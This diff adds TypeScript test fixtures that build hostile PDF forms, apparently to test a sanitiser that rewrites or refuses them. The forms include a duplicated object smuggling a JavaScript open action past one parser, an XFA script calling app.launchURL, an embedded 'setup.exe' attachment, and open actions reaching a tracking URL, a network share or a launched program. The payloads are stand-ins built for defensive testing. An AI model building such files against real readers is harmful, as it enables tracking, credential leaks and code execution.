@@ -86,3 +86,125 @@ function expectPng(png: Buffer): void {
   if (!png.subarray(0, 8).equals(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])))
     throw new Error('not a PNG');
 }
+
+/**
+ * A one-page form written byte by byte in which object 5 (the open action) is defined twice: one
+ * copy runs JavaScript, the other turns a page. Readers take the copy the cross-reference table
+ * points at; pdf-lib keeps the last one it reads. `script` says which copy the table points at.
+ */
+export function formWithTwinObject(script: 'first' | 'second'): Buffer {
+  const content = `BT /F1 24 Tf 72 700 Td (${FORM_MARKER} 1) Tj ET`;
+  const withScript = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';
+  const harmless = '<< /Type /Action /S /Named /N /NextPage >>';
+  const bodies: [number, string][] = [
+    [1, '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>'],
+    [2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'],
+    [
+      3,
+      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${A4.width} ${A4.height}] /Contents 4 0 R ` +
+        '/Resources << /Font << /F1 6 0 R >> >> >>',
+    ],
+    [4, `<< /Length ${content.length} >>\nstream\n${content}\nendstream`],
+    [5, script === 'first' ? withScript : harmless],
+    [6, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>'],
+    [5, script === 'first' ? harmless : withScript],
+  ];
+  let pdf = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
+  const offsets = new Map<number, number>();
+  for (const [id, body] of bodies) {
+    if (id !== 5 || body === withScript) offsets.set(id, Buffer.byteLength(pdf, 'latin1'));
+    pdf += `${id} 0 obj\n${body}\nendobj\n`;
+  }
+  const xref = Buffer.byteLength(pdf, 'latin1');
+  pdf += 'xref\n0 7\n0000000000 65535 f \n';
+  for (let id = 1; id <= 6; id++) pdf += `${String(offsets.get(id)).padStart(10, '0')} 00000 n \n`;
+  pdf += `trailer\n<< /Size 7 /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
+  return Buffer.from(pdf, 'latin1');
+}
+
+/** The plain form with `change` made to it by pdf-lib (an object of the form's own context). */
+async function formWith(change: (pdf: PDFDocument) => void): Promise<Buffer> {
+  const pdf = await PDFDocument.load(await pdfForm());
+  change(pdf);
+  return Buffer.from(await pdf.save({ useObjectStreams: false }));
+}
+
+const XFA_TEMPLATE = `<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">
+<event activity="initialize"><script contentType="application/x-javascript">app.launchURL("https://example.com/x");</script></event>
+</subform></template>`;
+
+/** Forms that reach out by themselves without JavaScript actions: kept only as their rewrite. */
+export const REWRITTEN_HOSTILE_FORMS: Record<string, () => Promise<Buffer>> = {
+  'an XFA form with scripts': () =>
+    formWith((pdf) => {
+      const template = pdf.context.register(pdf.context.flateStream(XFA_TEMPLATE));
+      const xfa = pdf.context.obj([PDFString.of('template'), template]);
+      pdf.catalog.set(PDFName.of('AcroForm'), pdf.context.obj({ Fields: [], XFA: xfa }));
+      pdf.catalog.set(PDFName.of('NeedsRendering'), pdf.context.obj(true));
+    }),
+  'a file attached through an annotation': () =>
+    formWith((pdf) => {
+      const file = pdf.context.register(
+        pdf.context.stream('MZ pretend program', {
+          Type: 'EmbeddedFile',
+          Subtype: 'application#2Fx-msdownload',
+        }),
+      );
+      const spec = pdf.context.obj({ Type: 'Filespec', F: PDFString.of('setup.exe'), EF: { F: file } });
+      const annotation = pdf.context.obj({
+        Type: 'Annot',
+        Subtype: 'FileAttachment',
+        Rect: [40, 40, 60, 60],
+        FS: spec,
+        Contents: PDFString.of('open me'),
+      });
+      pdf.getPage(0).node.set(PDFName.of('Annots'), pdf.context.obj([pdf.context.register(annotation)]));
+    }),
+  'an open action to \\\\host\\share': () =>
+    formWith((pdf) => {
+      const action = {
+        Type: 'Action',
+        S: 'GoToR',
+        F: PDFString.of('\\\\host\\share\\form.pdf'),
+        D: [0, 'Fit'],
+      };
+      pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(pdf.context.obj(action)));
+    }),
+  'an open action to a URL': () =>
+    formWith((pdf) => {
+      const action = pdf.context.obj({
+        Type: 'Action',
+        S: 'URI',
+        URI: PDFString.of('https://example.com/track'),
+      });
+      pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(action));
+    }),
+  'links to a URL and to another file': () =>
+    formWith((pdf) => {
+      const link = (rect: number[], action: Record<string, unknown>) =>
+        pdf.context.register(
+          pdf.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: rect, A: action } as never),
+        );
+      pdf.getPage(0).node.set(
+        PDFName.of('Annots'),
+        pdf.context.obj([
+          link([40, 700, 200, 720], { S: 'URI', URI: PDFString.of('https://example.com/') }),
+          link([40, 660, 200, 680], {
+            S: 'GoToR',
+            F: PDFString.of('\\\\host\\share\\x.pdf'),
+            D: [0, 'Fit'],
+          }),
+        ]),
+      );
+      const names = pdf.context.obj({ Dests: pdf.context.obj({ Names: [PDFString.of('a'), [0, 'Fit']] }) });
+      pdf.catalog.set(PDFName.of('Names'), names);
+    }),
+};
+
+/** An open action that launches a program on a share: refused, as every action that runs by itself. */
+export function formLaunchingShare(): Promise<Buffer> {
+  return formWith((pdf) => {
+    const action = { Type: 'Action', S: 'Launch', F: PDFString.of('\\\\host\\share\\setup.exe') };
+    pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(pdf.context.obj(action)));
+  });
+}
